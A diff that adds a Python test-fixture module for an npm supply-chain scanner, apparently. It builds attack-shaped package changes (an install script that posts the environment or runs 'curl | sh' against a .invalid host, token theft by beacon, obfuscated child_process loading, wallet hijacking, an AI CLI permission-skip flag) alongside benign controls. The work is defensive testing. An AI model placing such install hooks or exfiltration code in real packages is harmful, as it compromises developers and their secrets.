@@ -1,0 +1,365 @@
+"""Harmless packages, and changes to them that have the shape of attacks.
+
+Nothing here acts: hosts end in ``.invalid``, commands only echo, and nothing is ever run.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+from collections.abc import Mapping
+from typing import NamedTuple
+
+Texts = Mapping[str, str]
+
+HOST = "https://collector.invalid/in"
+SHOUT = base64.b64encode(b"require('os').platform(); // echo").decode()
+LINK = base64.b64encode(HOST.encode()).decode()
+
+
+def manifest(name: str = "plain", version: str = "1.0.0", **more: object) -> str:
+    """A package.json."""
+    return json.dumps({"name": name, "version": version, "main": "lib/main.js", **more}, indent=2)
+
+
+def machine_made(count: int = 30) -> str:
+    """Code with names as an obfuscator makes them, which does nothing."""
+    names = [f"_0x{each * 7919 % 65521 + 65536:x}" for each in range(count)]
+    return "".join(f"var {name}={number};" for number, name in enumerate(names))
+
+
+PLAIN = {
+    "package.json": manifest(dependencies={"ms": "^2.1.0"}),
+    "lib/main.js": "'use strict';\nconst ms = require('ms');\n\nexports.parse = (text) => ms(text);\n",
+    "lib/table.js": "exports.rows = [1, 2, 3];\n",
+}
+KEYS = {
+    "package.json": manifest("keys"),
+    "lib/main.js": "exports.sign = (privateKey, text) => `${privateKey}:${text}`;\n"
+    "exports.post = (to, body) => fetch(to, { method: 'POST', body });\n",
+}
+CLIENT = {
+    "package.json": manifest("client"),
+    "lib/main.js": "const https = require('node:https');\nexports.get = (url) => https.get(url);\n",
+}
+BUILT = {
+    "package.json": manifest("built", scripts={"install": "node build.js"}),
+    "lib/main.js": "module.exports = require('./native.js');\n",
+    "lib/native.js": "exports.add = (a, b) => a + b;\n",
+    "build.js": "if (!process.version) {\n  console.error('no runtime');\n}\n",
+}
+
+
+class StandIn(NamedTuple):
+    """What changes, in what, and the codes that must be among the reasons."""
+
+    base: Texts | None
+    change: Texts
+    codes: frozenset[str]
+
+
+def _scripts(base: Texts, **scripts: str) -> dict[str, str]:
+    data = json.loads(base["package.json"])
+    return {"package.json": json.dumps({**data, "scripts": scripts}, indent=2)}
+
+
+def _depends(base: Texts, table: str, **names: str) -> dict[str, str]:
+    data = json.loads(base["package.json"])
+    data[table] = {**data.get(table, {}), **names}
+    return {"package.json": json.dumps(data, indent=2)}
+
+
+def _case(base: Texts | None, change: Texts, *codes: str) -> StandIn:
+    return StandIn(base, change, frozenset(codes))
+
+
+def _adds(base: Texts, code: str, *codes: str) -> StandIn:
+    return _case(base, _added(code, base), *codes)
+
+
+def _added(code: str, base: Texts = PLAIN) -> dict[str, str]:
+    return {"lib/main.js": base["lib/main.js"] + code}
+
+
+STAND_INS = {
+    "postinstall sends the environment": _case(
+        PLAIN,
+        {
+            **_scripts(PLAIN, postinstall="node hello"),
+            "hello.js": f"const all = {{...process.env}};\nfetch('{HOST}', {{body: JSON.stringify(all)}});\n",
+        },
+        "install-script-new",
+        "install-code-acts",
+        "pair:send-secrets",
+    ),
+    "install script loads the payload": _case(
+        BUILT,
+        {
+            "build.js": BUILT["build.js"] + "require('./lib/native');\n",
+            "lib/native.js": "require('child_process').execSync('echo');\nexports.add = (a, b) => a + b;\n",
+        },
+        "install-code-acts",
+        "power:exec",
+    ),
+    "another install command": _case(
+        BUILT, _scripts(BUILT, install="node lib/native.js"), "install-script-changed"
+    ),
+    "a build file with a command": _case(
+        PLAIN,
+        {
+            "binding.gyp": '{"targets": [{"target_name": "x", "sources": ["<!(node lib/table.js)"]}]}\n'
+        },
+        "install-gyp-command",
+        "install-script-new",
+    ),
+    "shell script at install": _case(
+        PLAIN,
+        {
+            **_scripts(PLAIN, preinstall="sh ./get.sh"),
+            "get.sh": f"#!/bin/sh\ncurl -s {HOST} | sh\n",
+        },
+        "install-script-new",
+        "tell:shell-fetch",
+        "file-script",
+    ),
+    "payload in a file with a harmless name": _case(
+        PLAIN,
+        {
+            **_added("require('./notes.txt');\n"),
+            "lib/notes.txt": "require('child_process').exec('echo');\n",
+        },
+        "power:exec",
+    ),
+    "git dependency": _case(
+        PLAIN,
+        _depends(PLAIN, "optionalDependencies", helper="github:someone/helper#0123456"),
+        "dep-nonregistry",
+    ),
+    "dependency that nothing loads": _case(
+        PLAIN,
+        _depends(PLAIN, "dependencies", **{"plain-hidden-part": "^1.0.0"}),
+        "dep-unused",
+        "dep-unpopular",
+    ),
+    "carried package": _case(
+        PLAIN, {"node_modules/inner/index.js": "exports.a = 1;\n"}, "dep-bundled"
+    ),
+    "machine-made names": _adds(PLAIN, machine_made(), "obf:hex-names"),
+    "invisible code": _adds(
+        PLAIN, f"const s = `{''.join(chr(0xE0100 + n) for n in range(40))}`;\n", "obf:invisible"
+    ),
+    "text that turns around": _adds(
+        PLAIN, "const level = 'user\u202e // admin';\n", "obf:invisible"
+    ),
+    "encoded address": _adds(
+        CLIENT, f"https.get(Buffer.from('{LINK}', 'base64') + '');\n", "obf:hidden-string"
+    ),
+    "encoded twice": _adds(
+        CLIENT, f"const a = '{base64.b64encode(LINK.encode()).decode()}';\n", "obf:hidden-string"
+    ),
+    "encoded in reverse": _adds(CLIENT, f"const a = '{LINK[::-1]}';\n", "obf:hidden-string"),
+    "encoded in pieces": _adds(
+        CLIENT, f"const a = '{LINK[:10]}' + '{LINK[10:]}';\n", "obf:hidden-string"
+    ),
+    "encoded as numbers": _adds(
+        CLIENT,
+        f"const a = [{','.join(str(each) for each in HOST.encode())}];\n",
+        "obf:hidden-string",
+    ),
+    "encoded as hex": _adds(PLAIN, f"const a = '{SHOUT.encode().hex()}';\n", "obf:hidden-string"),
+    "glued name": _adds(PLAIN, "const run = require('child' + '_process');\n", "obf:split-name"),
+    "glued by join": _adds(
+        PLAIN, "const run = require(['child', 'process'].join('_'));\n", "obf:split-name"
+    ),
+    "glued by reverse": _adds(
+        PLAIN,
+        "const run = require('ssecorp_dlihc'.split('').reverse().join(''));\n",
+        "obf:split-name",
+    ),
+    "glued in a template": _adds(
+        PLAIN, "const run = require(`child_${'process'}`);\n", "obf:split-name"
+    ),
+    "glued by concat": _adds(
+        PLAIN, "const run = require('chil'.concat('d_process'));\n", "obf:split-name"
+    ),
+    "escaped name": _adds(
+        PLAIN, r"const run = require('\x63hild_process');" + "\n", "obf:split-name"
+    ),
+    "name made of numbers": _adds(
+        PLAIN,
+        f"const run = require(String.fromCharCode({','.join(str(n) for n in b'child_process')}));\n",
+        "obf:split-name",
+    ),
+    "off screen": _case(
+        PLAIN,
+        {
+            "lib/main.js": PLAIN["lib/main.js"].replace(
+                "ms');\n", f"ms');{' ' * 200}require('child_process').exec('echo');\n"
+            )
+        },
+        "obf:offscreen",
+        "power:exec",
+    ),
+    "alike letters": _adds(PLAIN, "const pаrse = exports.parse;\n", "obf:mixed-alphabet"),
+    "one long line": _adds(PLAIN, f"const t = [{'1,' * 2000}];\n", "obf:line-jump"),
+    "escapes": _adds(PLAIN, "const t = '" + r"\x41" * 400 + "';\n", "obf:escapes"),
+    "brackets without end": _case(PLAIN, {"lib/deep.js": "[" * 5000 + "\n"}, "obf:unread"),
+    "no text": _case(PLAIN, {"lib/more.js": "\0\1" * 500}, "obf:not-text"),
+    "keys to a new host": _adds(
+        KEYS,
+        f"exports.check = (privateKey) => fetch('{HOST}', {{headers: {{x: privateKey}}}});\n",
+        "pair:new-host-near-secrets",
+    ),
+    "name of the machine by DNS": _adds(
+        PLAIN,
+        "require('dns').lookup(require('os').userInfo().username + '.collector.invalid', () => {});\n",
+        "pair:send-secrets",
+        "power:net",
+    ),
+    "token by a beacon": _adds(
+        PLAIN,
+        f"navigator.sendBeacon('{HOST}', process.env.NPM_TOKEN);\n",
+        "pair:send-secrets",
+        "power:fetch",
+    ),
+    "environment by another name": _adds(
+        CLIENT,
+        f"const p = process;\nhttps.get('{HOST}?' + JSON.stringify(p.env));\n",
+        "pair:send-secrets",
+    ),
+    "environment by import": _adds(
+        PLAIN,
+        f"import {{ env }} from 'node:process';\nfetch('{HOST}', {{body: JSON.stringify(env)}});\n",
+        "pair:send-secrets",
+    ),
+    "downloads and runs": _adds(
+        CLIENT,
+        "const { spawn } = require('child_process');\nspawn('echo', [], {detached: true});\n",
+        "pair:fetch-run",
+        "pair:hidden-process",
+    ),
+    "downloads and evaluates": _adds(CLIENT, "(0, eval)('1');\n", "pair:fetch-eval", "power:eval"),
+    "evaluates without naming it": _adds(
+        PLAIN, "[].constructor.constructor('return 1 + 1')();\n", "power:eval"
+    ),
+    "evaluates by the global object": _adds(PLAIN, "globalThis['eval']('1 + 1');\n", "power:eval"),
+    "decodes and evaluates": _adds(
+        PLAIN, "new Function(Buffer.from(exports.rows, 'hex').toString())();\n", "pair:decode-eval"
+    ),
+    "require by another name": _adds(
+        PLAIN,
+        "const load = require;\nload('child_process').exec('echo');\n",
+        "power:exec",
+        "power:dyn-require",
+    ),
+    "module of the main program": _adds(
+        PLAIN, "process.mainModule.require('child_process').exec('echo');\n", "power:exec"
+    ),
+    "dynamic import": _adds(
+        PLAIN, "import('node:child_process').then((m) => m.exec('echo'));\n", "power:exec"
+    ),
+    "names in a list": _adds(
+        PLAIN, "const names = ['child_process'];\nrequire(names[0]).exec('echo');\n", "power:exec"
+    ),
+    "hooked fetch": _adds(
+        PLAIN,
+        "const real = globalThis.fetch;\nglobalThis.fetch = (...all) => real(...all);\n",
+        "tell:hook-net",
+    ),
+    "hooked requests": _adds(
+        PLAIN, "XMLHttpRequest.prototype.send = function () {};\n", "tell:hook-net"
+    ),
+    "wallet": _adds(
+        PLAIN,
+        "window.ethereum.request({method: 'eth_sendTransaction', params: [{to: '0x"
+        + "12" * 20
+        + "'}]});\n",
+        "tell:wallet",
+        "tell:wallet-hook",
+        "tell:wallet-address",
+    ),
+    "assistant without safety": _adds(
+        BUILT, "exports.all = ['--dangerously-skip-permissions'];\n", "tell:ai-cli"
+    ),
+    "tokens": _adds(
+        PLAIN,
+        "const shape = /gh[po]_[A-Za-z]{36}/.test('') || /ghp_[A-Z]{3}/;\n",
+        "tell:token-shape",
+    ),
+    "credentials": _adds(PLAIN, "const at = `${process.env.HOME}/.npmrc`;\n", "tell:cred-path"),
+    "cloud": _adds(PLAIN, "const at = 'http://169.254.169.254/latest';\n", "tell:cloud-metadata"),
+    "drop box": _adds(PLAIN, "const at = 'https://webhook.site/x';\n", "tell:exfil-host"),
+    "bare address": _adds(PLAIN, "const at = 'http://203.0.113.7/x';\n", "tell:ip-url"),
+    "start file": _adds(PLAIN, "const at = '.bashrc';\n", "tell:persist"),
+    "publishes": _adds(PLAIN, "const at = 'npm publish --access public';\n", "tell:publish"),
+    "script in a page": _adds(
+        PLAIN,
+        f"const s = document.createElement('script');\ns.src = '{HOST}';\ndocument.head.append(s);\n",
+        "power:inject-script",
+        "host-new",
+    ),
+    "machine code": _case(PLAIN, {"lib/fast.node": "\x7fELF"}, "power:native"),
+    "new package that acts at install": _case(
+        None,
+        {
+            "package.json": manifest("fresh", scripts={"postinstall": "node setup.js"}),
+            "setup.js": "require('https').request({hostname: 'collector.invalid'})"
+            ".end(JSON.stringify(process.env));\n",
+        },
+        "install-script-new",
+        "install-code-acts",
+    ),
+}
+"""Each must score enough for attention."""
+LIGHT = {"carried package", "machine code", "brackets without end"}
+"""Stand-ins that are worth a line but not, alone, attention."""
+
+HONEST: dict[str, StandIn] = {
+    "a fix": _case(
+        PLAIN, {"lib/main.js": PLAIN["lib/main.js"].replace("ms(text)", "ms(String(text))")}
+    ),
+    "a new file": _case(
+        PLAIN, {"lib/more.js": "exports.more = [4];\n", **_added("require('./more.js');\n")}
+    ),
+    "a known dependency that is used": _case(
+        PLAIN, {**_depends(PLAIN, "dependencies", chalk="^5.0.0"), **_added("require('chalk');\n")}
+    ),
+    "words in comments": _adds(
+        PLAIN,
+        "// eval(x), require('child_process'), fetch('https://evil.invalid'), process.env, .npmrc\n"
+        "/* https://webhook.site/x ghp_[A-Z] */\n",
+    ),
+    "words as names": _adds(
+        PLAIN,
+        "exports.rows = { eval: 1, fetch: 2, exec: 3 };\nexports.rows.fetch = exports.rows.eval;\n",
+    ),
+    "one variable of the environment": _adds(PLAIN, "exports.debug = process.env.DEBUG === '1';\n"),
+    "the global object by an old idiom": _adds(
+        PLAIN,
+        "const root = Function('return this')();\n",
+    ),
+    "a documentation host": _adds(
+        KEYS,
+        "const help = 'https://github.com/x/y#privateKey';\n",
+    ),
+    "a picture": _adds(
+        PLAIN,
+        "const dot = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';\n",
+    ),
+    "a moved file": _case(CLIENT, {"src/main.js": CLIENT["lib/main.js"]}),
+    "another message in the install script": _case(
+        BUILT, {"build.js": BUILT["build.js"].replace("no runtime", "none")}
+    ),
+}
+"""Each must stay below attention."""
+
+
+def files_of(texts: Texts) -> dict[str, bytes]:
+    """The files as a tarball holds them."""
+    return {path: text.encode("utf-8") for path, text in texts.items()}
+
+
+def sides(case: StandIn) -> tuple[dict[str, bytes] | None, dict[str, bytes]]:
+    """The old and the new version's files."""
+    old = files_of(case.base) if case.base is not None else None
+    return old, {**(old or {}), **files_of(case.change)}
